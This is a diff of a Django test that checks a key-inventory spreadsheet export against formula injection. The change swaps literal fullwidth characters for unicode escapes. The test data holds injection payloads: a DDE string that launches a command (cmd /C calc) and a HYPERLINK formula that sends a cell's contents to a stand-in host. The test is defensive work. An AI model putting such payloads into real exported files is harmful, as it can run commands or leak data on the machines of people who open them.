@@ -21,7 +21,7 @@ from tests.people import sign_in
 
 pytestmark = pytest.mark.django_db
 DOOR = "/inventory/key/export/"
-SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " ="]
+SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ="]
 BODIES = ["cmd|' /C calc'!A0", 'HYPERLINK("https://example.org?x="&A1,"a")', "1+1", "SUM(A1:A9)", "x"]
 CELLS = [sign + body for sign in SIGNS for body in BODIES]
 
@@ -71,7 +71,7 @@ def test_no_cell_of_a_spreadsheet_begins_a_formula():
         cell
         for row in rows
         for cell in row
-        if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠"))
+        if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
     ]
     assert armed == []
     book = openpyxl.load_workbook(io.BytesIO(bytes_of("xlsx"))).active
